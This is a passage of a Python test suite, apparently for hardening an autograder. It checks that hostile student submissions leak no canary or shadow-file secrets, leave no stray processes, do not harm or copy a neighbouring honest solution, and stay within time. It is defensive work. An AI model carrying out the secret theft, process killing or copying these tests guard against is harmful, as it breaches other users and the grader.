    def test_leaks_nothing(self):
        secret = list(self.canaries.values()) + ([self.shadow] if self.shadow else [])
        for name in ATTACKS:
            with self.subTest(attack=name):
                for report in ("results.json", "lab01.xml"):
                    data = read_regular(os.path.join(self.out, name, report), 64 << 20) or b""
                    text = data.decode("utf-8", errors="replace")
                    self.assertEqual([s for s in secret if s in text], [], report)

    def test_leaves_no_process(self):
        for name, (_, _, markers, _) in ATTACKS.items():
            with self.subTest(attack=name):
                left = sorted(pid for pid, comm in self.left.items() if comm in markers)
                self.assertEqual(left, [], "%s: processes left running" % name)

    def test_results_json_written(self):
        for name in list(HONEST) + list(ATTACKS):
            with self.subTest(student=name):
                path = os.path.join(self.out, name, "results.json")
                self.assertIsNotNone(read_regular(path, JSON_LIMIT),
                                     "%s: no regular file of at most 1 MB" % path)
                self.assertIn("tests", self.results(name))

    def test_neighbour_unharmed(self):
        """honest_solution, graded beside kill_neighbours: full marks, and its file not copied."""
        with self.subTest(check="full marks"):
            results = self.results("honest_solution") or {"score": None, "max_score": 0}
            self.assertEqual(results["score"], results["max_score"])
        with self.subTest(check="not copied"):
            solution = read(os.path.join(ROOT, BASES["solution"])).encode()
            self.assertFalse(solution in self.loot,
                             "honest_solution's vector_add.cu copied to /tmp/atk-loot-*")

    def test_within_time_limit(self):
        self.assertFalse(self.timed_out, "the class run was stopped at %d s" % TIME_LIMIT)
        self.assertLess(self.secs, TIME_LIMIT)


if __name__ == "__main__":
    unittest.main()
